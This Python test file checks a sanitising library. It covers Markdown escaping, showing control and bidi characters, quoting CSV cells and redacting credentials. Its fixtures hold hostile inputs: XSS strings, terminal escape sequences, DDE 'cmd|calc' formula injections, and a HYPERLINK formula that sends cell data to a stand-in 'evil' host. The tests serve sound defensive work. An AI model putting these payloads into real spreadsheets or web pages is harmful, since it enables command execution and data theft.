"""loaders.safe_text against hostile values: the one Markdown escape, CSV writer, terminal
filter and secret redaction every output uses."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from markdown_it import MarkdownIt

from loaders.safe_text import (
    csv_cell,
    csv_text,
    markdown_literal,
    redact_secrets,
    redact_url,
    visible,
)

# An HTML-permitting CommonMark renderer with tables: the viewer that ran the script.
RENDERER = MarkdownIt("commonmark", {"html": True}).enable("table")


def hostile_names() -> list[str]:
    """Names as an attacker would choose them for brands, campaigns, headers and files."""
    return [
        "<script>alert(1)</script>",
        "![px](http://host/p.png)",
        "[click](javascript:alert(1))",
        "<img src=x onerror=alert(1)>",
        "**bold** _it_ `code` ~~gone~~ $x^2$",
        "# heading",
        "- list item",
        "1. numbered",
        "a | b | c",
        "visit http://evil.example/x or www.evil.example",
        "&lt;script&gt;",
        "Tide\u202ewell\x1b[2J",
    ]


@pytest.mark.parametrize("name", hostile_names())
def test_markdown_literal_renders_as_the_same_text(name):
    html = RENDERER.render(markdown_literal(name))
    assert "<script" not in html and "<img" not in html and "<a " not in html
    assert not any(tag in html for tag in ("<strong", "<em", "<code", "<h1", "<li", "<table"))
    # The reader sees the text itself (entities decoded), controls made visible.
    shown = (
        html.removeprefix("<p>").removesuffix("</p>\n").replace("&lt;", "<").replace("&gt;", ">")
    )
    assert shown.replace("&amp;", "&").replace("&quot;", '"') == visible(name)


def test_markdown_literal_keeps_one_line_and_table_cells():
    assert markdown_literal("a\nb\r\n\tc") == "a b c"
    table = RENDERER.render(f"| x | y |\n|---|---|\n| {markdown_literal('1 | 2')} | z |\n")
    assert "<td>1 | 2</td>" in table and "<td>z</td>" in table


def test_visible_shows_controls_and_bidi_characters():
    assert visible("file\nname.csv") == "file\\nname.csv"
    assert visible("\x1b]0;owned\x07\x1b[2J") == "\\x1b]0;owned\\x07\\x1b[2J"
    assert visible("abc\u202edef\u2066x\u2069\u200e\u200f\u061c") == (
        "abc<U+202E>def<U+2066>x<U+2069><U+200E><U+200F><U+061C>"
    )
    assert visible("\x85\x9b31m") == "\\x85\\x9b31m"  # C1: NEL and the one-byte CSI
    assert visible("Café 😀 — ok\u200d") == "Café 😀 — ok\u200d"  # ordinary text untouched


def formula_cells() -> list[str]:
    return [
        '=HYPERLINK("http://evil/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
    ]


@pytest.mark.parametrize("cell", formula_cells())
def test_csv_cells_that_a_spreadsheet_would_evaluate_get_a_quote(cell):
    [row] = list(csv.reader(io.StringIO(csv_text([[cell]]))))
    assert row == ["'" + cell]


def test_numbers_and_plain_text_stay_as_they_are():
    assert [csv_cell(v) for v in (-5, -1.5, "-12.5", "+3", "1e-3", "a=b", "", None)] == [
        -5,
        -1.5,
        "-12.5",
        "+3",
        "1e-3",
        "a=b",
        "",
        None,
    ]
    text = csv_text([[-5, "-5", "=1+1"]], ["n", "s", "=header"])
    assert text.splitlines() == ["n,s,'=header", "-5,-5,'=1+1"]


def test_a_data_frame_keeps_numeric_columns_and_quotes_formula_text():
    frame = pd.DataFrame(
        {"=name": ["=1+1", "ok", "-3"], "change": [-3, 4, 5], "share": [-0.5, 0.1, 0.0]}
    )
    lines = csv_text(frame).splitlines()
    assert lines == ["'=name,change,share", "'=1+1,-3,-0.5", "ok,4,0.1", "-3,5,0.0"]


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://user:pass@host.example/v1", "https://host.example/v1"),
        (
            "https://k@host.example:8443/v1?api_key=sk-abc&v=2",
            "https://host.example:8443/v1?api_key=••••&v=2",
        ),
        ("http://localhost:11434/v1?token=t0k3n", "http://localhost:11434/v1?token=••••"),
        ("http://localhost:11434/v1", "http://localhost:11434/v1"),
    ],
)
def test_urls_lose_their_credentials(url, shown):
    assert redact_url(url) == shown


@pytest.mark.parametrize(
    ("body", "shown"),
    [
        ("Invalid key: got Bearer sk-live-1234567890", "Invalid key: got Bearer ••••"),
        ('{"authorization": "Bearer abc.def-ghi"}', '{"authorization": "••••"}'),
        ("Authorization: Basic dXNlcjpwYXNz", "Authorization: ••••"),
        ("key sk-proj-ABCDEFGH12345678 is revoked", "key •••• is revoked"),
        ("see https://me:pw@host/v1?api_key=zz9", "see https://host/v1?api_key=••••"),
        ("invalid api key provided", "invalid api key provided"),
    ],
)
def test_error_bodies_lose_keys_and_tokens(body, shown):
    assert redact_secrets(body) == shown


def test_a_known_secret_is_masked_wherever_it_appears():
    assert redact_secrets("you sent hunter2-secret twice: hunter2-secret", ["hunter2-secret"]) == (
        "you sent •••• twice: ••••"
    )


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("provided: abcd1234efgh", "provided: ••••"),  # cut short at the end
        ("provided: abcd1234ef**********ijkl.", "provided: ••••**********ijkl."),  # half shown
        ("provided: abcd1 (5 characters)", "provided: abcd1 (5 characters)"),  # too short to tell
        ("abcd12abcd1234efgh5678ijklX", "••••••••X"),
    ],
)
def test_the_start_of_a_known_secret_is_masked_too(text, shown):
    assert redact_secrets(text, ["abcd1234efgh5678ijkl"]) == shown


def test_a_very_long_secret_and_its_start_are_masked():
    key = "k" + "b1" * 600  # 1,201 characters: no pattern nesting that deep
    assert redact_secrets(f"x {key[:50]} y {key} z", [key]) == "x •••• y •••• z"
